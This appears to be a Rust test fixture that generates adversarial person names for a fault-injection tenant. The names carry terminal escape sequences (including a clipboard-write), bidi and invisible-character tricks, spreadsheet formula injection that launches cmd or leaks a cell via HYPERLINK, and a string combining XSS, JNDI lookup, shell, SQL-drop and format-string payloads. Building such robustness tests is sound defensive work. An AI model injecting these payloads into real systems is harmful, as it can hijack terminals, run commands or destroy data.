//! Names that attack whoever prints, measures, sorts or exports them. Only the tenant with the
//! `hostile` fault has them; each is a pure function of the person's number.

/// The hostile name of the `n`th person. Every kind stands among any 20 neighbours.
pub(super) fn name(n: u64) -> String {
    match n % 20 {
        0 => "\u{1b}[2J\u{1b}[31mRed\u{1b}[0m\u{1b}]0;owned\u{7} Nair".to_owned(),
        1 => "Asha\u{9b}31m C1\u{90}q\u{9c}\u{9d}0;owned\u{9c}".to_owned(),
        2 => "Ravi \u{202e}amreV ramuK\u{202c} end".to_owned(),
        3 => "\u{2066}left\u{2067}right\u{2068}first \u{200f}unclosed".to_owned(),
        4 => format!(
            "Z{}algo",
            "\u{301}\u{316}\u{489}\u{20dd}\u{334}".repeat(1_000)
        ),
        5 => "Pri\u{200b}ya\u{200d} \u{feff}Na\u{2060}ir\u{ad}".to_owned(),
        6 => "Line one\r\nLine two\nLine\tthree\u{b}\u{c}\u{2028}\u{85}end".to_owned(),
        7 => "=HYPERLINK(\"http://example.in/?\"&A1,\"click\")".to_owned(),
        8 => "+cmd|' /C calc'!A0".to_owned(),
        9 => "@SUM(1,1)*-2\",\"=1+1\"\r\n=2+2".to_owned(),
        10 => format!("Long{}", " of name".repeat(12_800)),
        11 => "NUL\0 BEL\u{7} BS\u{8}\u{8} DEL\u{7f} SO\u{e} SI\u{f}".to_owned(),
        12 => "👩‍👩‍👧‍👦 🇮🇳 ☎️ 1️⃣ 𝒜 \u{10ffff}\u{e000}".to_owned(),
        13 => "\u{301}\u{301}starts with marks".to_owned(),
        14 => "꧁𒐫﷽꧂ wide".to_owned(),
        15 => "\u{1b}]8;;http://example.in\u{1b}\\link\u{1b}]8;;\u{1b}\\".to_owned(),
        16 => "\u{1b}]52;c;b3duZWQ=\u{7}\u{1b}P+q544e\u{1b}\\\u{1b}[6n\u{1b}[c".to_owned(),
        17 => "  \u{a0}\u{3000}  ".to_owned(),
        18 => "\u{1160}\u{3164}\u{e0001}\u{e0041}\u{fff9}x\u{fffb}".to_owned(),
        _ => "<script>alert(1)</script> ${jndi:x} `rm` \"; DROP TABLE users; -- %s%n \\x1b[2J"
            .to_owned(),
    }
}

/// The hostile form of a role's name, equal for all who hold the role.
pub(super) fn role_name(plain: &str) -> String {
    format!("\u{1b}[7m{plain}\u{1b}[0m\u{202e}\u{200b}\n")
}
